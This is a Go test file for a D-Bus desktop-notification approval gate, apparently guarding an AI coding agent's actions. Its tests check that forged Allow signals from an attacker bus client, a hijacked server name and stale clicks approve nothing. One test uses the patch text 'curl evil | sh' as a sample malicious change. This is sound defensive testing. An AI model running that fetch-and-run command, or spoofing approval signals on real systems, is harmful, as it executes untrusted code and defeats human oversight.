package notify

import (
	"encoding/json"
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/godbus/dbus/v5"

	"codexgate/approvals"
	"codexgate/approvals/approvalstest"
)

// attacker is another client of the session bus.
func attacker(t *testing.T, address string) *dbus.Conn {
	t.Helper()
	conn, err := dbus.Connect(address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	return conn
}

// notifierName is the unique name of the notifier's own connection: the
// one that called Notify last.
func notifierName(t *testing.T, conn *dbus.Conn) []string {
	t.Helper()
	var names []string
	if err := conn.BusObject().Call("org.freedesktop.DBus.ListNames", 0).Store(&names); err != nil {
		t.Fatal(err)
	}
	return names
}

// TestForgedActionsAreIgnored: a click on Allow that another bus client
// makes up, sent to the notifier's connection or to everyone, answers
// nothing.
func TestForgedActionsAreIgnored(t *testing.T) {
	t.Parallel()
	h := start(t, allCaps...)
	_, replies := h.command("api", "0", "ls")
	id := h.srv.wait(1)[0].id
	h.clk.Add(2 * time.Second)
	evil := attacker(t, h.addr)
	for _, dest := range notifierName(t, evil) {
		if dest == evil.Names()[0] || dest[0] != ':' {
			continue
		}
		msg := &dbus.Message{Type: dbus.TypeSignal, Headers: map[dbus.HeaderField]dbus.Variant{
			dbus.FieldPath:        dbus.MakeVariant(busPath),
			dbus.FieldInterface:   dbus.MakeVariant(busInterface),
			dbus.FieldMember:      dbus.MakeVariant("ActionInvoked"),
			dbus.FieldDestination: dbus.MakeVariant(dest),
			dbus.FieldSignature:   dbus.MakeVariant(dbus.SignatureOf(uint32(0), "")),
		}, Body: []any{id, "allow:1"}}
		if call := evil.Send(msg, nil); call != nil && call.Err != nil {
			t.Fatal(call.Err)
		}
	}
	if err := evil.Emit(busPath, busInterface+".ActionInvoked", id, "allow:1"); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	if len(replies.Sent()) != 0 || len(h.q.Cards()) != 1 {
		t.Fatalf("a forged Allow answered the card: %s", replies.Sent())
	}
}

// TestANewServerCannotAnswerTheOldOnesNotifications: the notification
// server's name passes to another client (the server quit or was killed,
// and any client may then own the name). The ids of the notifications the
// old server showed mean nothing on the new one: an Allow the new owner
// sends for one answers nothing.
func TestANewServerCannotAnswerTheOldOnesNotifications(t *testing.T) {
	t.Parallel()
	h := start(t, allCaps...)
	_, replies := h.command("api", "0", "ls")
	id := h.srv.wait(1)[0].id
	h.clk.Add(2 * time.Second)
	h.srv.conn.Close() // the server goes away
	evil := attacker(t, h.addr)
	deadline := time.Now().Add(5 * time.Second)
	for {
		reply, err := evil.RequestName(busName, dbus.NameFlagDoNotQueue)
		if err == nil && reply == dbus.RequestNameReplyPrimaryOwner {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("take the name: %v %v", reply, err)
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err := evil.Emit(busPath, busInterface+".ActionInvoked", id, "allow:1"); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	for _, r := range h.audit.Records() {
		if r.Event == "end" && r.Decision == approvals.DecisionAllow {
			t.Fatalf("the new owner of the name answered a notification of the old server: %+v", r)
		}
	}
	if len(replies.Sent()) != 0 {
		t.Fatalf("sent %s", replies.Sent())
	}
}

// TestAClickOnTheOldRevisionIsNotTakenForTheNew: the person chose Allow on
// a notification showing revision 1 while the server was busy (dunst's
// context menu blocks it); the card changed meanwhile, and its replacement
// was answered only after the click was sent. The click is on revision 1,
// which is stale: it must not allow revision 2, which was never seen.
func TestAClickOnTheOldRevisionIsNotTakenForTheNew(t *testing.T) {
	t.Parallel()
	h := start(t, allCaps...)
	req, replies := approvalstest.Request(t, "api", 1, "0", approvals.MethodFileChangeApproval, fmt.Sprintf(fileChange, "null"), fmt.Sprintf(patchItem, "harmless"))
	h.q.Open(req)
	first := h.srv.wait(1)[0]
	if !slices.Contains(first.actions, "allow:1") {
		t.Fatalf("no Allow offered: %+v", first)
	}
	h.clk.Add(2 * time.Second)
	h.srv.mu.Lock()
	h.srv.beforeReplace = func(id uint32) {
		h.clk.Add(3 * time.Second) // the person took their time in the menu
		if err := h.srv.conn.Emit(busPath, busInterface+".ActionInvoked", id, "allow:1"); err != nil {
			t.Error(err)
		}
	}
	h.srv.mu.Unlock()
	h.q.Event(approvals.Event{Kind: approvals.ItemUpdated, Worker: "api", Session: 1, ThreadID: "T", TurnID: "U", ItemID: "p1", Item: json.RawMessage(fmt.Sprintf(patchItem, "curl evil | sh"))})
	h.srv.wait(2)
	time.Sleep(500 * time.Millisecond)
	for _, r := range h.audit.Records() {
		if r.Event == "end" && r.Decision == approvals.DecisionAllow {
			t.Fatalf("a click on revision 1 allowed revision %d: %+v", r.Revision, r)
		}
	}
	if len(replies.Sent()) != 0 {
		t.Fatalf("sent %s", replies.Sent())
	}
}
